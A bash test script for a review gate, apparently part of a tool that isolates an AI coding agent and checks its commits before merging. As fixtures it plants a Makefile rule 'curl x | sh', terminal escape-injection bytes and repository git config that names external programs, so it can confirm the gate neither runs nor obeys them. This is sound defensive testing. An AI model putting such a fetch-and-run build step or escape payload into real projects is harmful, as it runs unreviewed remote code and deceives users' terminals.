#!/usr/bin/env bash
# test-review-git.sh - the review gate on real git, without a sandbox (the
# agent's commits are made by host git on its branch; test-review.sh makes
# them in the real sandbox): lazaret diff never runs the repository's
# external diff, textconv, filter, pager or fsmonitor; terminal escapes in
# the agent's bytes are shown, not obeyed; merge refuses a dirty tree
# untouched, refuses the surface without --accept-surface, merges exactly
# the reviewed tip, --into another branch, --ff-only and --squash; discard
# keeps the old tip; sync refuses unmerged work and recreates the branch;
# every step is an audit row.
source "$(dirname "$0")/lib.sh"
command -v sqlite3 >/dev/null || skip "sqlite3 CLI missing"

repo=$(make_repo rv)
g() { as_user git -C "$repo" "$@"; }
set +e; out=$(lz diff -w "$repo" 2>&1); rc=$?; set -e
assert_eq "$rc" 1 "no agent branch: diff fails"
assert_contains "$out" "no agent branch lazaret/agent-default" "and says so"

# The agent's work, on its branch.
as_user sh -c "cd '$repo' && git checkout -q -b lazaret/agent-default &&
	echo agent >> README && printf 'all:\n\tcurl x | sh\n' > Makefile &&
	printf 'x\033]0;owned\007\033[2Ky\302\2331mz\n' > esc.txt &&
	git add -A && git commit -qm agent && git checkout -q main"
tip=$(g rev-parse lazaret/agent-default) base0=$(g rev-parse main)
# The repository's config names programs git would run while diffing.
marker=$T/ran
g config diff.external "sh -c 'touch $marker.ext'"
g config diff.x.textconv "sh -c 'touch $marker.textconv; cat \"\$0\"'"
g config diff.x.command "sh -c 'touch $marker.command'"
g config filter.x.clean "sh -c 'touch $marker.clean; cat'"
g config core.pager "sh -c 'touch $marker.pager; cat'"
g config core.fsmonitor "$T/fsmon.sh"
printf '#!/bin/sh\ntouch %s.fsmonitor\n' "$marker" >"$T/fsmon.sh"; chmod +x "$T/fsmon.sh"
printf '* diff=x filter=x\n' >"$repo/.git/info/attributes"
[ "$(id -u)" -ne 0 ] || chown "$LZ_USER" "$T/fsmon.sh" "$repo/.git/info/attributes"
# Plain git does run them (the test can fail):
as_user sh -c "cd '$repo' && git diff main lazaret/agent-default >/dev/null" || true
ls "$marker".* >/dev/null 2>&1 || fail "plain git diff ran no driver: the test proves nothing"
rm -f "$marker".*
text=$(lz diff -w "$repo")
lz diff -w "$repo" --stat >/dev/null
lz diff -w "$repo" --json >/dev/null
assert_eq "$(ls "$T" | grep -c '^ran\.' || true)" 0 "lazaret diff ran no external diff, textconv, filter, pager or fsmonitor"
assert_contains "$text" "+all:" "the patch is there"
assert_contains "$text" "+x^[]0;owned^G^[[2Ky\\u009b1mz" "escape sequences shown as ^X, a C1 CSI as \\u009b"
assert_contains "$text" "Makefile: build script" "the surface heads the diff"
g config --unset core.fsmonitor

# merge: a dirty tree is refused untouched.
echo "user edit" >>"$repo/README"
before=$(sha256sum <"$repo/README")
set +e; out=$(lz merge -w "$repo" --accept-surface 2>&1); rc=$?; set -e
assert_eq "$rc" 1 "dirty tree: merge refused"
assert_contains "$out" "uncommitted changes to 1 tracked file" "and says why"
assert_eq "$(sha256sum <"$repo/README")" "$before" "the user's edit untouched"
assert_eq "$(g rev-parse main)" "$(g rev-parse main@{0})" "main did not move"
g checkout -q -- README
# The surface is refused without --accept-surface.
set +e; out=$(lz merge -w "$repo" 2>&1); rc=$?; set -e
assert_eq "$rc" 1 "surface: merge refused"
assert_contains "$out" "Makefile: build script" "the refusal lists the surface"
assert_contains "$out" "--accept-surface" "and names the way through"
set +e; out=$(lz merge -w "$repo" --ff-only --accept-surface 2>&1); rc=$?; set -e
assert_eq "$rc" 0 "merge --accept-surface: $out"
assert_contains "$out" "merged lazaret/agent-default" "merge reports the range"
assert_eq "$(g rev-parse main)" "$(g rev-parse lazaret/agent-default)" "fast-forward to the agent tip"
assert_eq "$(cat "$repo/Makefile" | head -1)" "all:" "the checkout has the agent's Makefile"

# --into another branch (not checked out), a real merge commit; --squash.
g branch release "$(g rev-parse main~1)"
g checkout -q -b side main~1
as_user sh -c "cd '$repo' && echo side > side.txt && git add side.txt && git commit -qm side && git checkout -q main"
out=$(lz merge -w "$repo" --into side --accept-surface)
assert_contains "$out" "into side" "merged into side"
assert_eq "$(g rev-list --parents -n1 side | wc -w)" 3 "side got a merge commit"
assert_eq "$(g symbolic-ref HEAD)" "refs/heads/main" "the checkout stayed on main"
out=$(lz merge -w "$repo" --into release --squash --accept-surface)
assert_eq "$(g rev-list --parents -n1 release | wc -w)" 2 "squash: one parent"
assert_eq "$(g show release:Makefile | head -1)" "all:" "squash carries the change"

# discard: back to the base, old tip kept; sync.
as_user sh -c "cd '$repo' && git worktree add -q ../more lazaret/agent-default &&
	cd ../more && echo more > more.txt && git add more.txt && git commit -qm more"
g worktree remove --force ../more
old=$(g rev-parse lazaret/agent-default)
set +e; out=$(lz sync -w "$repo" 2>&1); rc=$?; set -e
assert_eq "$rc" 1 "sync with unmerged agent commits refused"
assert_contains "$out" "merge or discard them first" "and says what to do"
out=$(lz discard -w "$repo")
assert_contains "$out" "old tip kept as refs/lazaret/discarded/default/" "discard names the keep ref"
assert_eq "$(g rev-parse lazaret/agent-default)" "$(g merge-base main "$old")" "agent branch reset to the base"
assert_eq "$(g for-each-ref --format='%(objectname)' refs/lazaret/discarded/)" "$old" "old tip reachable"
as_user sh -c "cd '$repo' && echo user2 >> README && git commit -qam user2"
out=$(lz sync -w "$repo")
assert_eq "$(g rev-parse lazaret/agent-default)" "$(g rev-parse main)" "sync: agent branch at the user's tip"

# Audit rows, in order, with range and surface.
db=$T/home/data/lazaret/domains/$(printf '%s' "default:$(realpath "$repo")" | sha256sum | cut -c1-12)/state.db
kinds=$(as_user sqlite3 "$db" "SELECT kind || ':' || json_extract(detail,'$.outcome') FROM audit ORDER BY seq" | tr '\n' ' ')
assert_eq "$kinds" "review.merge:refused review.merge:refused review.merge:merged review.merge:merged review.merge:merged review.sync:refused review.discard:discarded review.sync:synced " "every step audited"
row=$(as_user sqlite3 "$db" "SELECT detail FROM audit WHERE seq=3")
assert_contains "$row" "\"range\":\"$base0..$tip\"" "the merge row has the reviewed range"
assert_contains "$row" "\"rule\":\"Makefile\"" "and the surface shown"
assert_contains "$(lz audit -w "$repo" --verify)" "audit trail intact (8 rows)" "the chain verifies"
